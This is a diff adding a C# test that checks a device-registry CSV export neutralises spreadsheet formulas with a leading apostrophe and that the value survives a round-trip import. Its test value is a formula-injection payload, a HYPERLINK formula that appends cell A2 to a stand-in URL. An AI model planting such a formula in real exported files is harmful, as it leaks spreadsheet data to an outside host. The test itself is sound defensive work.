@@ -98,6 +98,28 @@ public sealed class RegistryCsvImportTests : IAsyncLifetime
         Assert.Equal(_shop.Site.Address, rows.Single(r => r.DeviceId == "0000C3D4").Site.Address);
     }
 
+    [Fact]
+    [Trait("Category", "Privacy")]
+    public async Task A_formula_in_an_imported_address_leaves_the_gateway_as_text_and_survives_a_round_trip()
+    {
+        const string formula = "=HYPERLINK(\"http://x/?\"&A2,\"x\")";
+        string header = (await ExportAsync()).Split("\r\n")[0];
+        InstallerRun imported = await ImportAsync(string.Join("\r\n", header,
+            "0000A1B2,active,home-panic,,home,\"" + formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",37.5665,126.9780,11140,R-FORMULA1,,,,,0"));
+        Assert.True(imported.Exit == ExitCodes.Ok, imported.ToString());
+
+        string exported = await ExportAsync();
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"x\"\")\",", exported, StringComparison.Ordinal);
+
+        // The device's line as exported imports back without gaining the ' (the seeded others have no site reference to import).
+        string[] lines = exported.TrimEnd().Split("\r\n");
+        string file = Path.Combine(_rig.Directory, "round-trip.csv");
+        await File.WriteAllTextAsync(file, lines[0] + "\r\n" + lines.Single(l => l.StartsWith("0000A1B2,", StringComparison.Ordinal)) + "\r\n");
+        InstallerRun again = await _rig.InstallerAsync("import", "--csv", file, "--lang", "en");
+        Assert.True(again.Exit == ExitCodes.Ok, again.ToString());
+        Assert.Equal(formula, (await _rig.Get<DeviceLifecycle>().ListAsync(CancellationToken.None)).Single(r => r.DeviceId == "0000A1B2").Site.Address);
+    }
+
     private async Task<string> ExportAsync()
     {
         InstallerRun export = await _rig.InstallerAsync("export", "--csv");
